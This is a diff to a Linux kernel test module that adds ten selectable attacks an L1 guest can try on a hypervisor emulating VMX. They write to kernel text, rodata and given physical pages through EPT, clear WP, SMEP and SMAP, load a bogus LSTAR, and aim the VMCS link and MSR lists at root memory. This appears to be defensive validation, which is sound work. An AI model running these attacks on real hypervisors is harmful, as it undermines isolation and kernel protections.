@@ -28,15 +28,36 @@
  * EPT violation; INVEPT and INVVPID of every type; clearing CR4.VMXE in VMX
  * operation (#GP); VMXOFF.
  *
- * attack=ept_rodata: instead, on the first online CPU, let L2's EPT map the
- * page of linux_banner (kernel rodata) writable and have L2 flip a byte of
- * it and write it back; one line says whether the kernel's byte changed:
+ * attack=NAME: instead, on the first online CPU, one attack an L1 could
+ * try on a hypervisor that emulates VMX for it; one line, without
+ * addresses, says what happened (exit reasons in decimal, -1 for none):
  *
- *   rp_vmx: attack ept_rodata: target=linux_banner cpu<N> exit1=<reason>
- *           written=<0|1> exit2=<reason> restored=<0|1> error=<none|step>
- *
- * (exit1 and exit2 are the exit reasons after the write and after the
- * write back: 12, HLT, when nothing stood in the way; -1 for none).
+ *   ept_rodata, ept_text, ept_phys: L2's EPT maps a page writable, L2
+ *     flips a byte of it (HLT) and writes it back (HLT). The byte: of
+ *     linux_banner (rodata); the last of the page _etext ends in (kernel
+ *     text, never executed); the last of the page pa= names, or of a page
+ *     of the module's own.
+ *       attack ept_text: target=etext_page_end cpu<N> exit1=<reason>
+ *         written=<0|1> exit2=<reason> restored=<0|1> error=<none|step>
+ *   host_cr0_wp, host_cr4_smep, host_cr4_smap: vmcs12's host CR0/CR4
+ *     lacks the bit; after L2's exit, is it clear (then set again)?
+ *       attack host_cr4_smep: cpu<N> exit1=12 cleared=<0|1> restored=1 error=none
+ *   exit_msr_lstar: the VM-exit MSR-load list loads a bogus LSTAR:
+ *       attack exit_msr_lstar: cpu<N> exit1=12 loaded=<0|1> restored=1 error=none
+ *   vmxoff_smep: after L2, VMXOFF and CR4.VMXE clear, a MOV to CR4 that
+ *     clears SMEP (not native_write_cr4(), whose pinning would undo it):
+ *       attack vmxoff_smep: cpu<N> exit1=12 write=<done|#GP> cleared=<0|1>
+ *         restored=1 error=none
+ *   link_root: the VMCS link pointer at the first page of pa= holding the
+ *     VMCS revision identifier (or pa[0]), or at a page of the module's own
+ *     holding it; VMLAUNCH:
+ *       attack link_root: link=<own|given> rev=<0|1> cpu<N> exit1=<%#x> error=none
+ *   msrlist_root: the VM-exit MSR-store list holds one entry, for
+ *     MSR_STAR: in a page of the module's own, or (pa= naming root
+ *     chunks) an entry planted in the hypervisor's own copy of vmcs12
+ *     through VMWRITEs of the CR3-target values, found in those chunks:
+ *       attack msrlist_root: list=<own|given> found=1 cpu<N> exit1=12
+ *         stored=<0|1> vmcs12_intact=<0|1> error=none
  */
 #define pr_fmt(fmt) "rp_vmx: " fmt
 
@@ -48,6 +69,7 @@
 #include <linux/slab.h>
 #include <linux/smp.h>
 #include <linux/string.h>
+#include <linux/uaccess.h>
 #include <linux/workqueue.h>
 #include <asm/asm.h>
 #include <asm/cpu_entry_area.h>
@@ -65,7 +87,7 @@
 
 static char *attack = "";
 module_param(attack, charp, 0444);
-MODULE_PARM_DESC(attack, "\"ept_rodata\": only run the EPT write to kernel rodata");
+MODULE_PARM_DESC(attack, "run one attack instead of the checks: ept_rodata, ept_text, ept_phys, host_cr0_wp, host_cr4_smep, host_cr4_smap, exit_msr_lstar, vmxoff_smep, link_root, msrlist_root");
 
 /*
  * Outcome of one VMX instruction (SDM "Conventions" of the VMX instruction
@@ -97,7 +119,7 @@ MODULE_PARM_DESC(attack, "\"ept_rodata\": only run the EPT write to kernel rodat
 #define GPA_CODE	0x1000
 #define GPA_DATA	0x2000
 #define GPA_LATE	0x3000		/* unmapped until the EPT violation */
-#define GPA_TARGET	0x4000		/* attack: the rodata page */
+#define GPA_TARGET	0x4000		/* ept_* attacks: the target page */
 #define ATTACK_OFF	0x80		/* attack code, offset in the code page */
 #define EPT_LEAF_WB	((u64)VMX_EPTP_MT_WB << VMX_EPT_MT_EPTE_SHIFT | VMX_EPT_IPAT_BIT)
 #define EPT_R		VMX_EPT_READABLE_MASK
@@ -1404,7 +1426,7 @@ static long rpv_cpu_fn(void *arg)
 	return 0;
 }
 
-/* ---- attack=ept_rodata --------------------------------------------------------- */
+/* ---- the attacks (attack=...) -------------------------------------------------- */
 
 static bool rpv_attack_caps(struct rpv_cpu *c)
 {
@@ -1414,27 +1436,309 @@ static bool rpv_attack_caps(struct rpv_cpu *c)
 	       (k->feat_ctl & FEAT_CTL_VMX_ENABLED_OUTSIDE_SMX) && rpv_l2_caps(k);
 }
 
-struct rpv_attack {
-	struct rpv_cpu *c;
-	u8 *target;
-	char line[160];
+/* The bogus LSTAR of exit_msr_lstar: canonical, and easy to spot. */
+#define RPV_BOGUS_LSTAR		0xffffffff8badc0deULL
+/* The MSR-store entry msrlist_root plants: index and value both MSR_STAR. */
+#define RPV_PLANT		((u64)MSR_STAR)
+/* How much of each given root chunk msrlist_root searches for it. */
+#define RPV_CHUNK_SPAN		(4 * PAGE_SIZE)
+/* Up to this many physical addresses in pa=. */
+#define RPV_MAX_PA		16
+
+static const u32 rpv_cr3_targets[] = {
+	CR3_TARGET_VALUE0, CR3_TARGET_VALUE1, CR3_TARGET_VALUE2, CR3_TARGET_VALUE3,
 };
 
+struct rpv_attack;
+
+/* One attack: @go runs on the filled VMCS A, L2 not yet launched. */
+struct rpv_attack_def {
+	const char *name;
+	void (*go)(struct rpv_attack *a);
+	u64 bit;			/* host_cr*: the bit HOST_CR0/CR4 lacks */
+	bool cr4;
+};
+
+struct rpv_attack {
+	struct rpv_cpu *c;
+	const struct rpv_attack_def *def;
+	u8 *target;			/* ept_*: the byte L2 flips */
+	u64 target_pa;
+	const char *what;		/* the target, as the line names it */
+	unsigned long cr4;		/* CR4 when the VMCS was filled */
+	char line[200];
+};
+
+static unsigned long rpv_pa[RPV_MAX_PA];
+static int npa;
+module_param_array_named(pa, rpv_pa, ulong, &npa, 0444);
+MODULE_PARM_DESC(pa, "physical addresses for ept_phys, link_root, msrlist_root (none: a page of the module's own)");
+
+/* A byte through the kernel's mapping, -1 if it cannot be read. */
+static int rpv_peek(const void *p)
+{
+	u8 b;
+
+	return copy_from_kernel_nofault(&b, p, 1) ? -1 : b;
+}
+
+static int rpv_write_cr0(unsigned long v)
+{
+	int trap = -1;
+
+	asm volatile("1: mov %[v], %%cr0\n2:\n" _ASM_EXTABLE_FAULT(1b, 2b)
+		     : "+a"(trap) : [v] "r"(v) : "memory");
+	return trap < 0 ? R_OK : R_FAULT(trap);
+}
+
+/* VMLAUNCH; the exit reason, or -1 for none (the entry failed). */
+static int rpv_attack_launch(struct rpv_cpu *c)
+{
+	return rpv_run(c, true) == R_EXIT ? (int)rpv_rd(VM_EXIT_REASON) : -1;
+}
+
+/*
+ * ept_rodata, ept_text, ept_phys: L2's EPT maps the target's page
+ * writable; L2 reads the byte, writes its complement (HLT), then writes
+ * the original back (HLT).
+ */
+static void rpv_att_ept(struct rpv_attack *a)
+{
+	struct rpv_cpu *c = a->c;
+	int before = rpv_peek(a->target), during, after, e2 = -1, e1;
+	const char *err = "none";
+
+	rpv_ept_map(c, GPA_TARGET, a->target_pa & PAGE_MASK, EPT_R | EPT_W);
+	rpv_vmwrite(GUEST_RIP, GPA_CODE + ATTACK_OFF);
+	c->g.r[G_SI] = GPA_TARGET + (a->target_pa & ~PAGE_MASK);
+	e1 = rpv_attack_launch(c);
+	during = rpv_peek(a->target);
+	if (e1 == EXIT_REASON_HLT) {
+		rpv_skip_insn();
+		e2 = rpv_run(c, false) == R_EXIT ? (int)rpv_rd(VM_EXIT_REASON) : -1;
+	} else {
+		err = "first_exit";
+	}
+	after = rpv_peek(a->target);
+	snprintf(a->line, sizeof(a->line),
+		 "target=%s cpu%d exit1=%d written=%d exit2=%d restored=%d error=%s",
+		 a->what, c->cpu, e1, before >= 0 && during == (u8)~before, e2,
+		 before >= 0 && after == before, err);
+}
+
+/*
+ * host_cr0_wp, host_cr4_smep, host_cr4_smap: vmcs12's host CR0 or CR4
+ * lacks the bit; after L2's exit (HLT), is it clear? Put back at once.
+ */
+static void rpv_att_host_cr(struct rpv_attack *a)
+{
+	struct rpv_cpu *c = a->c;
+	const struct rpv_attack_def *d = a->def;
+	unsigned long was = d->cr4 ? a->cr4 : native_read_cr0(), now;
+	const char *err = "none";
+	int e1, put = R_OK;
+
+	if (!(was & d->bit)) {
+		snprintf(a->line, sizeof(a->line), "cpu%d error=bit_not_set", c->cpu);
+		return;
+	}
+	rpv_vmwrite(d->cr4 ? HOST_CR4 : HOST_CR0, was & ~d->bit);
+	e1 = rpv_attack_launch(c);
+	now = d->cr4 ? __read_cr4() : native_read_cr0();
+	if (!(now & d->bit))
+		put = d->cr4 ? rpv_write_cr4(now | d->bit) : rpv_write_cr0(now | d->bit);
+	if (put != R_OK)
+		err = "restore_failed";
+	else if (e1 != EXIT_REASON_HLT)
+		err = "first_exit";
+	snprintf(a->line, sizeof(a->line), "cpu%d exit1=%d cleared=%d restored=%d error=%s",
+		 c->cpu, e1, !(now & d->bit),
+		 !!((d->cr4 ? __read_cr4() : native_read_cr0()) & d->bit), err);
+}
+
+/* exit_msr_lstar: vmcs12's VM-exit MSR-load list loads a bogus LSTAR. */
+static void rpv_att_exit_msr(struct rpv_attack *a)
+{
+	struct rpv_cpu *c = a->c;
+	u64 *list = (u64 *)c->late, was, now, fin;
+	int e1;
+
+	rdmsrl(MSR_LSTAR, was);
+	list[0] = MSR_LSTAR;		/* index, reserved 0 (SDM Table 25-15) */
+	list[1] = RPV_BOGUS_LSTAR;
+	rpv_vmwrite(VM_EXIT_MSR_LOAD_ADDR, virt_to_phys(list));
+	rpv_vmwrite(VM_EXIT_MSR_LOAD_COUNT, 1);
+	e1 = rpv_attack_launch(c);
+	rdmsrl(MSR_LSTAR, now);
+	if (now != was)
+		wrmsrl(MSR_LSTAR, was);
+	rdmsrl(MSR_LSTAR, fin);
+	snprintf(a->line, sizeof(a->line), "cpu%d exit1=%d loaded=%d restored=%d error=%s",
+		 c->cpu, e1, now == RPV_BOGUS_LSTAR, fin == was,
+		 e1 == EXIT_REASON_HLT ? "none" : "first_exit");
+}
+
+/* vmxoff_smep: L2 runs, then VMXOFF; then a MOV to CR4 without SMEP. */
+static void rpv_att_vmxoff(struct rpv_attack *a)
+{
+	struct rpv_cpu *c = a->c;
+	int e1 = rpv_attack_launch(c);
+
+	snprintf(a->line, sizeof(a->line), "cpu%d exit1=%d", c->cpu, e1);
+}
+
+/* After rpv_leave(): VMX is off, CR4.VMXE clear, interrupts still off. */
+static void rpv_att_vmxoff_after(struct rpv_attack *a)
+{
+	unsigned long was = __read_cr4(), now;
+	char w[24];
+	int r;
+	size_t n = strlen(a->line);
+
+	if (!(was & X86_CR4_SMEP)) {
+		snprintf(a->line + n, sizeof(a->line) - n, " error=bit_not_set");
+		return;
+	}
+	r = rpv_write_cr4(was & ~X86_CR4_SMEP);
+	now = __read_cr4();
+	if (!(now & X86_CR4_SMEP))
+		rpv_write_cr4(was);
+	rpv_rstr(w, sizeof(w), r);
+	snprintf(a->line + n, sizeof(a->line) - n,
+		 " write=%s cleared=%d restored=%d error=none",
+		 r == R_OK ? "done" : w, !(now & X86_CR4_SMEP),
+		 !!(__read_cr4() & X86_CR4_SMEP));
+}
+
+/*
+ * link_root: VMCS_LINK_POINTER at a given page (the first of pa= that
+ * holds this CPU's VMCS revision identifier, else rpv_pa[0]) or at a page of
+ * the module's own with the identifier; VMLAUNCH. The SDM (27.3.1.5)
+ * checks a link pointer other than ~0 against the identifier in memory.
+ */
+static void rpv_att_link(struct rpv_attack *a)
+{
+	struct rpv_cpu *c = a->c;
+	u32 rev = c->k.basic & 0x7fffffff, got = 0;
+	u64 link = virt_to_phys(c->shadow);
+	bool has_rev = true;
+	int i, e1;
+
+	*(u32 *)c->shadow = rev;
+	if (npa) {
+		link = rpv_pa[0] & PAGE_MASK;
+		has_rev = false;
+		for (i = 0; i < npa; i++) {
+			if (copy_from_kernel_nofault(&got, phys_to_virt(rpv_pa[i] & PAGE_MASK),
+						     sizeof(got)) || got != rev)
+				continue;
+			link = rpv_pa[i] & PAGE_MASK;
+			has_rev = true;
+			break;
+		}
+	}
+	rpv_vmwrite(VMCS_LINK_POINTER, link);
+	e1 = rpv_attack_launch(c);
+	snprintf(a->line, sizeof(a->line), "link=%s rev=%d cpu%d exit1=%#x error=none",
+		 npa ? "given" : "own", has_rev, c->cpu, (u32)e1);
+}
+
+/*
+ * Where in the given root memory a VMWRITE of RPV_PLANT to the four
+ * CR3-target values landed: root's copy of vmcs12. The address of a
+ * 16-byte-aligned MSR-list entry there that reads {MSR_STAR, 0, MSR_STAR},
+ * or 0.
+ */
+static u64 rpv_find_plant(void)
+{
+	u64 q[4], at;
+	int i;
+
+	for (i = 0; i < npa; i++) {
+		for (at = rpv_pa[i] & PAGE_MASK; at < (rpv_pa[i] & PAGE_MASK) + RPV_CHUNK_SPAN;
+		     at += 8) {
+			if (copy_from_kernel_nofault(q, phys_to_virt(at), sizeof(q)))
+				break;
+			if (q[0] != RPV_PLANT || q[1] != RPV_PLANT || q[2] != RPV_PLANT ||
+			    q[3] != RPV_PLANT)
+				continue;
+			return (at & 8) ? at + 8 : at;
+		}
+	}
+	return 0;
+}
+
+/*
+ * msrlist_root: vmcs12's VM-exit MSR-store list names one entry that
+ * stores MSR_STAR. Natively the list is a page of the module's own; with
+ * pa=, it is the entry planted in root's copy of vmcs12 (the CR3-target
+ * values, unused with a CR3-target count of 0), found in the given root
+ * chunks: root must not write it.
+ */
+static void rpv_att_msrlist(struct rpv_attack *a)
+{
+	struct rpv_cpu *c = a->c;
+	u64 *own = (u64 *)c->late, list = virt_to_phys(own), star, v, after = 0;
+	bool intact = true;
+	int i, e1;
+
+	for (i = 0; i < ARRAY_SIZE(rpv_cr3_targets); i++)
+		rpv_vmwrite(rpv_cr3_targets[i], RPV_PLANT);
+	own[0] = RPV_PLANT;
+	own[1] = RPV_PLANT;
+	if (npa) {
+		list = rpv_find_plant();
+		if (!list) {
+			snprintf(a->line, sizeof(a->line),
+				 "list=given found=0 cpu%d error=no_plant", c->cpu);
+			return;
+		}
+	}
+	rpv_vmwrite(VM_EXIT_MSR_STORE_ADDR, list);
+	rpv_vmwrite(VM_EXIT_MSR_STORE_COUNT, 1);
+	e1 = rpv_attack_launch(c);
+	rdmsrl(MSR_STAR, star);
+	if (copy_from_kernel_nofault(&after, phys_to_virt(list + 8), sizeof(after)))
+		after = RPV_PLANT;
+	for (i = 0; i < ARRAY_SIZE(rpv_cr3_targets); i++)
+		intact &= rpv_vmread(rpv_cr3_targets[i], &v) == R_OK && v == RPV_PLANT;
+	snprintf(a->line, sizeof(a->line),
+		 "list=%s found=1 cpu%d exit1=%d stored=%d vmcs12_intact=%d error=%s",
+		 npa ? "given" : "own", c->cpu, e1, after == star && after != RPV_PLANT,
+		 intact, e1 == EXIT_REASON_HLT ? "none" : "first_exit");
+}
+
+static const struct rpv_attack_def rpv_attacks[] = {
+	{ "ept_rodata", rpv_att_ept },
+	{ "ept_text", rpv_att_ept },
+	{ "ept_phys", rpv_att_ept },
+	{ "host_cr0_wp", rpv_att_host_cr, X86_CR0_WP, false },
+	{ "host_cr4_smep", rpv_att_host_cr, X86_CR4_SMEP, true },
+	{ "host_cr4_smap", rpv_att_host_cr, X86_CR4_SMAP, true },
+	{ "exit_msr_lstar", rpv_att_exit_msr },
+	{ "vmxoff_smep", rpv_att_vmxoff },
+	{ "link_root", rpv_att_link },
+	{ "msrlist_root", rpv_att_msrlist },
+};
+
+/*
+ * On the first online CPU, interrupts off: VMXON, a clear VMCS A, L2 at
+ * its HLT (GPA_CODE + 0x35), then the attack's own steps.
+ */
 static long rpv_attack_fn(void *arg)
 {
 	struct rpv_attack *a = arg;
 	struct rpv_cpu *c = a->c;
-	u64 a_pa = virt_to_phys(c->vmcs_a), pa = slow_virt_to_phys(a->target);
-	u8 before = READ_ONCE(*a->target), during = before, after;
-	u32 e1 = ~0U, e2 = ~0U;
+	u64 a_pa = virt_to_phys(c->vmcs_a);
+	const char *err = NULL;
 	unsigned long flags;
-	const char *err = "none";
-	int r;
 
 	c->cpu = smp_processor_id();
 	rpv_read_caps(c);
-	if (!rpv_attack_caps(c))
-		goto out_caps;
+	if (!rpv_attack_caps(c)) {
+		snprintf(a->line, sizeof(a->line), "cpu%d error=caps (%s)", c->cpu, c->caps);
+		return 0;
+	}
 	*(u32 *)c->vmxon = c->k.basic & 0x7fffffff;
 	*(u32 *)c->vmcs_a = c->k.basic & 0x7fffffff;
 	local_irq_save(flags);
@@ -1456,60 +1760,84 @@ static long rpv_attack_fn(void *arg)
 	}
 	rpv_save_host(c);
 	rpv_build_ept(c);
-	rpv_ept_map(c, GPA_TARGET, pa & PAGE_MASK, EPT_R | EPT_W);
-	rpv_fill(c, GPA_CODE + ATTACK_OFF);
-	c->g.r[G_SI] = GPA_TARGET + (pa & ~PAGE_MASK);
+	a->cr4 = __read_cr4();
+	rpv_fill(c, GPA_CODE + 0x35);
 	if (c->wfail) {
 		err = "vmwrite";
-		goto out;
-	}
-	r = rpv_run(c, true);
-	e1 = r == R_EXIT ? (u32)rpv_rd(VM_EXIT_REASON) : ~0U;
-	during = READ_ONCE(*a->target);
-	if (e1 != EXIT_REASON_HLT) {
-		err = "first_exit";
 		goto out_clear;
 	}
-	rpv_skip_insn();
-	r = rpv_run(c, false);
-	e2 = r == R_EXIT ? (u32)rpv_rd(VM_EXIT_REASON) : ~0U;
+	a->def->go(a);
 out_clear:
 	rpv_vmclear(a_pa);
 out:
 	rpv_leave(c);
+	if (!err && a->def->go == rpv_att_vmxoff)
+		rpv_att_vmxoff_after(a);
 	local_irq_restore(flags);
-	after = READ_ONCE(*a->target);
-	snprintf(a->line, sizeof(a->line),
-		 "exit1=%d written=%d exit2=%d restored=%d error=%s",
-		 (int)e1, during == (u8)~before, (int)e2, after == before, err);
+	if (err)
+		snprintf(a->line, sizeof(a->line), "cpu%d error=%s", c->cpu, err);
 	return 0;
-out_caps:
-	snprintf(a->line, sizeof(a->line), "error=caps (%s)", c->caps);
-	return 0;
+}
+
+/* The target of an ept_* attack; false (and a line) if there is none. */
+static bool rpv_ept_target(struct rpv_attack *a)
+{
+	const char *name = a->def->name;
+	unsigned long etext;
+
+	if (!strcmp(name, "ept_phys") && npa) {
+		/* The last byte of the given page. */
+		a->target_pa = rpv_pa[0] | (PAGE_SIZE - 1);
+		a->target = phys_to_virt(a->target_pa);
+		a->what = "given";
+		return true;
+	}
+	if (!strcmp(name, "ept_rodata")) {
+		a->target = (u8 *)rp_lookup("linux_banner");
+		a->what = "linux_banner";
+	} else if (!strcmp(name, "ept_text")) {
+		/*
+		 * The last byte of the page _etext ends in: kernel text as
+		 * Rampart's policy rounds it (whole pages), never executed.
+		 */
+		etext = rp_lookup("_etext");
+		a->what = "etext_page_end";
+		if (etext && offset_in_page(etext))
+			a->target = (u8 *)(etext | (PAGE_SIZE - 1));
+	} else {
+		a->target = a->c->late + PAGE_SIZE - 1;
+		a->what = "own";
+	}
+	if (!a->target) {
+		pr_info("attack %s: target=%s error=no_target\n", name, a->what);
+		return false;
+	}
+	a->target_pa = slow_virt_to_phys(a->target);
+	return true;
 }
 
 static int rpv_attack_run(void)
 {
 	struct rpv_attack a = {};
-	int ret = -ENOMEM;
+	int i, ret = -ENOMEM;
 
-	if (strcmp(attack, "ept_rodata")) {
-		pr_info("attack %s: unknown (ept_rodata is the one)\n", attack);
+	for (i = 0; i < ARRAY_SIZE(rpv_attacks); i++)
+		if (!strcmp(attack, rpv_attacks[i].name))
+			a.def = &rpv_attacks[i];
+	if (!a.def) {
+		pr_info("attack %s: unknown\n", attack);
 		return -EINVAL;
-	}
-	a.target = (u8 *)rp_lookup("linux_banner");
-	if (!a.target) {
-		pr_info("attack ept_rodata: error=no_linux_banner\n");
-		return 0;
 	}
 	a.c = kvzalloc(sizeof(*a.c), GFP_KERNEL);
 	if (!a.c || rpv_alloc_pages(a.c))
 		goto out;
+	ret = 0;
+	if (a.def->go == rpv_att_ept && !rpv_ept_target(&a))
+		goto out;
 	cpus_read_lock();
 	work_on_cpu(cpumask_first(cpu_online_mask), rpv_attack_fn, &a);
 	cpus_read_unlock();
-	pr_info("attack ept_rodata: target=linux_banner cpu%d %s\n", a.c->cpu, a.line);
-	ret = 0;
+	pr_info("attack %s: %s\n", a.def->name, a.line);
 out:
 	if (a.c)
 		rpv_free_pages(a.c);
